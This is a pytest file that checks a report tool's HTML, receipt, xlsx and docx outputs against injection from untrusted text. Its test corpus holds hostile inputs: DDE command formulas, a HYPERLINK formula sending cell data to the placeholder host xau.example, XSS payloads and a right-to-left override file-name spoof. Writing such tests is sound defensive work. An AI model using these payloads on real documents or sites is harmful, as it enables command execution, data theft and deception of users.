"""Text of documents, file names, names of communes: shown as they are, never run, in everything that staff open."""

from __future__ import annotations

import base64
import gzip
import re
import zipfile
from html import escape
from html.parser import HTMLParser
from pathlib import Path

import pytest

from desk import letter, page, receipts, synthesis, workbook
from desk.night import Expected, Late, Night, Raised
from desk.receipts import Line
from normalize import catalogue
from tests.factories import evidence, observation
from tests.nights import AT, found_in, night, refused, report

CORPUS = [
    pytest.param("=1+1", id="a formula"),
    pytest.param("=cmd|' /C calc'!A0", id="a command by dynamic data exchange"),
    pytest.param('=HYPERLINK("http://xau.example?x="&A1,"bấm vào đây")', id="a formula that sends a cell away"),
    pytest.param('=WEBSERVICE("http://xau.example")', id="a formula that asks the network"),
    pytest.param("+1+cmd|' /C calc'!A0", id="a formula that begins with plus"),
    pytest.param("-1+1", id="a formula that begins with minus"),
    pytest.param("@SUM(A1:A9)", id="a formula that begins with at"),
    pytest.param("\t=1+1", id="a formula behind a tab"),
    pytest.param("\r\n=1+1", id="a formula behind a line break"),
    pytest.param("＝1+1", id="a formula in full-width signs"),
    pytest.param('"";=1+1', id="a formula behind the end of a cell"),
    pytest.param("{=1+1}", id="an array formula"),
    pytest.param("http://xau.example", id="an address"),
    pytest.param("<script>alert(1)</script>", id="a script tag"),
    pytest.param("</script><script>alert(1)</script>", id="the end of a script and another"),
    pytest.param('" onmouseover="alert(1)', id="a quote that ends an attribute"),
    pytest.param("' autofocus onfocus='alert(1)", id="a single quote that ends an attribute"),
    pytest.param("<img src=x onerror=alert(1)>", id="a picture with an event"),
    pytest.param("<svg/onload=alert(1)>", id="a drawing with an event"),
    pytest.param("</textarea></style></title><b>", id="ends of elements"),
    pytest.param("<!--", id="a comment that hides the rest"),
    pytest.param("]]><x>", id="the end of a section of XML"),
    pytest.param("&lt;b&gt;&#60;script&#62;", id="markup already escaped"),
    pytest.param("javascript:alert(1)", id="an address that is a script"),
    pytest.param("{{ 7*7 }}{% for x in y %}{# #}", id="expressions of the templates"),
    pytest.param("báo cáo\u202excod.exe\u2066", id="signs that turn the way of writing"),
    pytest.param("a\x00\x07\x1bb", id="control signs"),
]
TURNING = re.compile("[\u202a-\u202e\u2066-\u2069\u200e\u200f]")


def full_of(text: str) -> Night:
    """The same text in every place where words from outside are shown."""
    words = {"text": text, "snippet": f"trước {text} sau", "label": text, "scope": text, "section": text}
    figures = (
        observation(**words, indicator=None),
        observation(**words, unit=text, row=text, column=text, other=text),
    )
    names = {"document": text, "area": text, "number": text, "province": text, "title": text}
    own = report(1, figures=figures, notes=(text,), **names)
    said = {"stated": text, "computed": text, "message": text, "ask": text, "consequences": (text,)}
    shown = found_in(own, **said, figures=(evidence(text=text, snippet=f"trước {text} sau", section=text),))
    apart = {"late": (Late(text, text, None, None),), "older": (Raised(shown, new=True, since="2026-06-08"),)}
    away = (Expected(text),)
    more = {"quarantined": (refused(text, text),), "settled": (shown,), "unchecked": ((text, text, 3),)}
    return night([own], [shown], expected=away, missing=away, **apart, **more)


class Elements(HTMLParser):
    """The elements of a page with the names of their attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, tuple[str, ...]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, tuple(name for name, _ in attrs)))


def unpacked(html: str) -> str:
    """The page with all that its script would unfold."""
    packed = re.compile(r'<script type="application/gzip">(.*?)</script>', re.DOTALL)
    return packed.sub(lambda found: gzip.decompress(base64.b64decode(found[1])).decode(), html)


def the_page(text: str) -> str:
    return unpacked(page.render(full_of(text), catalogue.load()))


def the_receipt(text: str, folder: Path) -> str:
    folder.mkdir(exist_ok=True)
    lines = [Line(text, "loaded", text), Line(text, "quarantined", text)]
    receipts._write(bytes(folder), lines, text, AT)
    return (folder / receipts.NAME).read_text(encoding="utf-8")


@pytest.mark.parametrize("text", CORPUS)
def test_the_page_and_the_receipt_gain_no_element_and_no_attribute(text: str, tmp_path: Path) -> None:
    for shown, plain in (
        (the_page(text), the_page("chữ thường")),
        (the_receipt(text, tmp_path / "a"), the_receipt("chữ thường", tmp_path / "b")),
    ):
        assert Elements(shown).found == Elements(plain).found
        assert not TURNING.search(shown)
    assert escape(text.strip()[-5:].replace("\u2066", ""), quote=False)[-1] in the_page(text)


@pytest.mark.parametrize("text", CORPUS)
def test_the_workbook_has_no_formula_and_no_link(text: str, tmp_path: Path) -> None:
    workbook.write(full_of(text), catalogue.load(), tmp_path / "x.xlsx")
    with zipfile.ZipFile(tmp_path / "x.xlsx") as parts:
        inside = {n: parts.read(n).decode() for n in parts.namelist() if n.endswith((".xml", ".rels"))}
    assert not [n for n, xml in inside.items() if "<f>" in xml or "<f " in xml or "<hyperlink" in xml]
    assert not [n for n, xml in inside.items() if TURNING.search(xml) or 'TargetMode="External"' in xml]


@pytest.mark.parametrize("text", CORPUS)
def test_letters_and_the_synthesis_have_no_field_and_no_link(text: str, tmp_path: Path) -> None:
    shown = full_of(text)
    [name] = letter.write_all(shown, tmp_path, letter.Office()).values()
    synthesis.write(shown, catalogue.load(), tmp_path / "tong-hop.docx", letter.Office())
    for path in (tmp_path / name, tmp_path / "tong-hop.docx"):
        with zipfile.ZipFile(path) as parts:
            xml = parts.read("word/document.xml").decode()
        assert not re.search(r"<w:(fldSimple|instrText|hyperlink|object)|DDEAUTO", xml)
        assert not TURNING.search(xml)
    assert re.fullmatch(r"[a-z0-9-]+\.docx", name)
